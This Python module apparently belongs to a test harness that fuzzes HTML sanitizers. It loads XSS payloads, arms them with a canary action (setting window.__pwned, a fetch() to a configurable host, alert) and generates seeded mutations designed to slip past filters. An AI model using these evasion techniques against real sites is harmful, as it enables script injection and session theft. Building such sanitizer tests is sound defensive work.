"""Attacks by HTML: those of `payloads/`, and as many more as are asked for, made of them with a seed."""

from __future__ import annotations

import random
from pathlib import Path

FOLDER = Path(__file__).with_name("payloads")
SEED = 20
CHARACTERS = {
    "{NUL}": "\x00", "{TAB}": "\t", "{NL}": "\n", "{CR}": "\r", "{FF}": "\x0c", "{VT}": "\x0b",
    "{NBSP}": "\xa0", "{BOM}": "\ufeff", "{ZW}": "\u200b",
}  # fmt: skip
_WRAPS = [
    "svg", "math", "p", "table", "select", "b", "svg><desc", "li", "noscript", "template", "style", "title",
    "a",
    "math><mtext", "svg><foreignObject", "textarea", "xmp", "form", "button", "option",
    "math><annotation-xml",
]  # fmt: skip
_ODD = [
    "\x00",
    "\t",
    "\n",
    "\x0c",
    "/",
    "\u2028",
    "\x0b",
    "\ufeff",
    " ",
    "<",
    ">",
    '"',
    "'",
    "&",
    "=",
    "\x85",
]


def written() -> list[str]:
    """Every attack of the folder, with its placeholders."""
    lines = [
        line for path in sorted(FOLDER.glob("*.txt")) for line in path.read_text(encoding="utf-8").split("\n")
    ]
    return [line for line in lines if line and not line.startswith("#")]


def armed(payload: str, elsewhere: str) -> str:
    """The attack itself: what runs sets `__pwned`, asks `elsewhere` and opens a dialog."""
    act = f"window.__pwned=1;fetch(`{elsewhere}/ran`);alert(1)"
    for name, character in CHARACTERS.items():
        payload = payload.replace(name, character)
    return payload.replace("{ACT}", act).replace("{LOAD}", elsewhere)


def mutated(payloads: list[str], count: int, *, seed: int = SEED) -> list[str]:
    """`count` attacks more, each made of one or two of these as filters do not expect it."""
    dice = random.Random(seed)
    return [_mutate(payloads[n % len(payloads)], payloads, dice) for n in range(count)]


def _mutate(html: str, others: list[str], dice: random.Random) -> str:
    for _ in range(dice.randint(1, 3)):
        cut = dice.randrange(len(html) or 1)
        end = min(len(html), cut + dice.randint(1, 30))
        other, wrap = dice.choice(others), dice.choice(_WRAPS)
        html = dice.choice(
            [
                html.swapcase() if "http" not in html else html.replace("s", "S", 1),
                html[:cut] + dice.choice(_ODD) + html[cut:],
                html[:cut] + html[end:],
                html[:cut] + html[cut:end] * 2 + html[end:],
                html[:cut] + other + html[cut:],
                html + other,
                other[: dice.randrange(len(other))] + html,
                html.replace("<", "<\x0b", 1),
                f"<{wrap}>{html}",
                f"<{wrap}>{html}</{wrap.rpartition('<')[2]}>",
                f"{html}</{wrap.rpartition('<')[2]}>",
                html.replace('"', "'"),
                html.replace('"', "`"),
                html.replace('"', ""),
                html.replace(" ", "/"),
                html.replace("=", " = "),
                f"<!--{html[:cut]}-->{html}",
                f"<![CDATA[{html}]]>{html}",
                f"<div title='{html[:cut]}'>{html}",
                f'<p title="{html[:cut]}">{html}',
                "<b>" * 60 + html,
                "<svg>" * 130 + html,
                html.replace("script", "scr<script>ipt"),
                html.replace("<", "&lt;").replace(">", "&gt;") + html,
                html[:cut] + f"&#{ord(html[cut])};" + html[cut + 1 :] if html else html,
                html + html[:cut],
            ]
        )
        html = html[:20_000]
    return html
